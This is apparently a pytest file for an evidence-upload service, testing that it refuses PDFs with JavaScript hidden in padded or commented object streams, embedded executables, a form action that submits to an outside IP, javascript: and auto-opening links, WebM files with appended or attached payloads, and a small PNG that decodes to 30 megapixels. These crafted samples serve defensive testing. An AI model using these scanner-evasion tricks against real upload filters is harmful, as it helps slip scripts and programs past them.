"""Issue 10, finding 6: upload checks that could be bypassed or abused (PDF, WebM, image cost, drafts, lengths)."""

from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path

import pikepdf
import pytest
import time_machine
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from PIL import Image

from reports.evidence import store_evidence_file
from reports.evidence_checks import EvidenceRejected
from reports.models import Evidence

DRAFT = "draf-uji-temuan-6"


@pytest.fixture
def media(db, settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def pdf_upload(data: bytes, name: str = "bukti.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def js_in_object_stream() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in data  # only visible once the object stream is inflated
    return data


def padded_object_stream() -> bytes:
    data = js_in_object_stream()
    start = data.index(b"/Type /ObjStm")
    end = data.index(b">>", start)
    return data[:end] + b" " * 70_000 + data[end:]


def comment_before_stream() -> bytes:
    data = js_in_object_stream()
    keyword = data.index(b"stream", data.index(b"/Type /ObjStm"))
    return data[:keyword] + b"% a comment\n" + data[keyword:]


def page_with_annotation(action: pikepdf.Dictionary, *, open_action: bool = False) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20], A=action)
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    if open_action:
        pdf.Root.OpenAction = action
    return saved(pdf)


def with_embedded_exe() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["program.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60, mime_type="x/exe")
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


SUBMIT = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://203.0.113.9/collect"))


@pytest.mark.parametrize(
    "data",
    [
        padded_object_stream(),
        comment_before_stream(),
        with_embedded_exe(),
        page_with_annotation(SUBMIT),
        page_with_annotation(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))),
        page_with_annotation(
            pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/")), open_action=True
        ),
    ],
    ids=["padded-objstm", "comment-before-stream", "embedded-exe", "submit-form", "javascript-uri", "auto-uri"],
)
def test_pdf_checker_refuses_what_the_byte_scanner_let_through(media, data):
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(pdf_upload(data), draft_token=DRAFT)
    assert refused.value.code == "pdf_script"
    assert Evidence.objects.count() == 0


def test_a_pdf_with_ordinary_web_links_is_accepted(media):
    data = page_with_annotation(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://x.com/a/1")))
    evidence = store_evidence_file(pdf_upload(data, "tangkapan-layar.pdf"), draft_token=DRAFT)
    assert evidence.media_type == "application/pdf"


def test_the_signed_sk_goes_through_the_same_checker(media):
    from sanctions.services import checked_signed_sk

    with pytest.raises(ValidationError) as refused:
        checked_signed_sk(pdf_upload(padded_object_stream(), "sk.pdf"))
    assert "PDF ini berisi JavaScript" in refused.value.message_dict["signed_sk"][0]


# ------------------------------------------------------------------ WebM


def ebml(element_id: int, payload: bytes) -> bytes:
    """One EBML element with the shortest size field, as muxers write it."""
    size = len(payload)
    field = bytes([0x80 | size]) if size < 127 else (0x4000 | size).to_bytes(2, "big")
    return element_id.to_bytes((element_id.bit_length() + 7) // 8, "big") + field + payload


def webm(*segment_children: bytes, doctype: bytes = b"webm") -> bytes:
    header = ebml(0x1A45DFA3, ebml(0x4282, doctype))
    return header + ebml(0x18538067, b"".join(segment_children))


INFO = ebml(0x1549A966, ebml(0x2AD7B1, (1_000_000).to_bytes(3, "big")))
CLUSTER = ebml(0x1F43B675, ebml(0xE7, b"\x00") + ebml(0xA3, b"\x81\x00\x00\x80" + b"\x00" * 32))


def test_a_well_formed_webm_is_accepted(media):
    data = webm(INFO, CLUSTER)
    evidence = store_evidence_file(SimpleUploadedFile("rekaman.webm", data), draft_token=DRAFT)
    assert evidence.media_type == "video/webm"


@pytest.mark.parametrize(
    "data",
    [
        webm(INFO, CLUSTER)[:-20],  # cut short
        webm(INFO, CLUSTER) + b"\x00" * 64 + b"MZ\x90\x00" * 200,  # something glued after the segment
        webm(INFO, ebml(0x1941A469, b"\x00" * 40)),  # Matroska attachments: any file, programs included
    ],
    ids=["truncated", "trailing-junk", "attachments"],
)
def test_a_broken_or_loaded_webm_is_refused(media, data):
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(SimpleUploadedFile("rekaman.webm", data), draft_token=DRAFT)
    assert refused.value.code in {"corrupt", "video_attachment"}


# ------------------------------------------------------------------ images: pixels per image and per request


def test_a_cheap_png_of_many_megapixels_is_refused_before_decoding(media):
    out = io.BytesIO()
    Image.new("1", (6000, 5000)).save(out, "PNG")  # 30 MP in a few kilobytes
    assert len(out.getvalue()) < 100_000
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(SimpleUploadedFile("peta.png", out.getvalue()), draft_token=DRAFT)
    assert refused.value.code == "bomb"
    assert "lebih dari 25 megapiksel" in refused.value.message


def test_one_request_decodes_a_bounded_number_of_pixels(client, organisations, settings, tmp_path):
    from tests.test_intake import NOW, jpeg_bytes, report_data

    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.NETRALITAS_ANTIBOT_MIN_SECONDS = 0
    settings.NETRALITAS_IMAGE_PIXELS_PER_REQUEST = 2000  # two 32×24 photos (768 pixels each)
    from netralitas.models import Region

    sleman = Region.objects.select_related("parent").get(name="Kabupaten Sleman")
    places = {"sleman": sleman, "diy": sleman.parent, "pemda_sleman": organisations["pemda_sleman"]}
    photos = [SimpleUploadedFile(f"foto-{n}.jpg", jpeg_bytes((n * 60, 0, 0))) for n in range(3)]
    with time_machine.travel(NOW, tick=True):
        response = client.post("/lapor/", report_data(places, evidence_files=photos, reporter_name=""))
    html = re.sub(r"\s+", " ", response.content.decode())
    assert "Berkas «foto-2.jpg» belum diperiksa: foto dalam satu kiriman sudah terlalu banyak" in html
    assert sorted(Evidence.objects.values_list("original_name", flat=True)) == ["foto-0.jpg", "foto-1.jpg"]


# ------------------------------------------------------------------ drafts of an attempt never sent


def test_drafts_of_an_invalid_attempt_are_gone_within_the_hour(media):
    from netralitas.celery import app
    from reports.tasks import task_sweep_orphan_evidence
    from tests.test_intake import jpeg_bytes

    with time_machine.travel(timezone.now() - dt.timedelta(minutes=55), tick=False):
        store_evidence_file(SimpleUploadedFile("foto.jpg", jpeg_bytes()), draft_token=DRAFT)
    fresh = store_evidence_file(SimpleUploadedFile("baru.jpg", jpeg_bytes((1, 2, 3))), draft_token=DRAFT)
    task_sweep_orphan_evidence()
    assert list(Evidence.objects.all()) == [fresh]
    schedule = app.conf.beat_schedule["sweep-orphan-evidence"]["schedule"]
    assert schedule == 600.0  # every 10 minutes: 50 + 10 < 60


# ------------------------------------------------------------------ lengths


def test_every_text_field_of_the_public_forms_has_a_maximum_length():
    from reports.public.forms import ReportForm
    from reports.public.status_forms import CompletionForm, LookupForm, WithdrawForm
    from reports.public.terlapor_forms import TerlaporForm

    unbounded = [
        f"{form.__name__}.{name}"
        for form in (ReportForm, TerlaporForm, LookupForm, CompletionForm, WithdrawForm)
        for name, field in form.base_fields.items()
        if isinstance(field, forms.CharField) and field.max_length is None
    ]
    assert unbounded == []


def test_a_megabyte_address_is_refused_next_to_its_field(client, organisations, settings, tmp_path):
    from netralitas.models import Region
    from tests.test_intake import NOW, report_data

    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.NETRALITAS_ANTIBOT_MIN_SECONDS = 0
    sleman = Region.objects.select_related("parent").get(name="Kabupaten Sleman")
    places = {"sleman": sleman, "diy": sleman.parent, "pemda_sleman": organisations["pemda_sleman"]}
    with time_machine.travel(NOW, tick=True):
        response = client.post("/lapor/", report_data(places, reporter_address="Jl. " + "x" * 1_000_000))
    assert response.status_code == 200
    assert "paling banyak 500 karakter" in response.content.decode()
    assert response.context["form"].errors["reporter_address"]
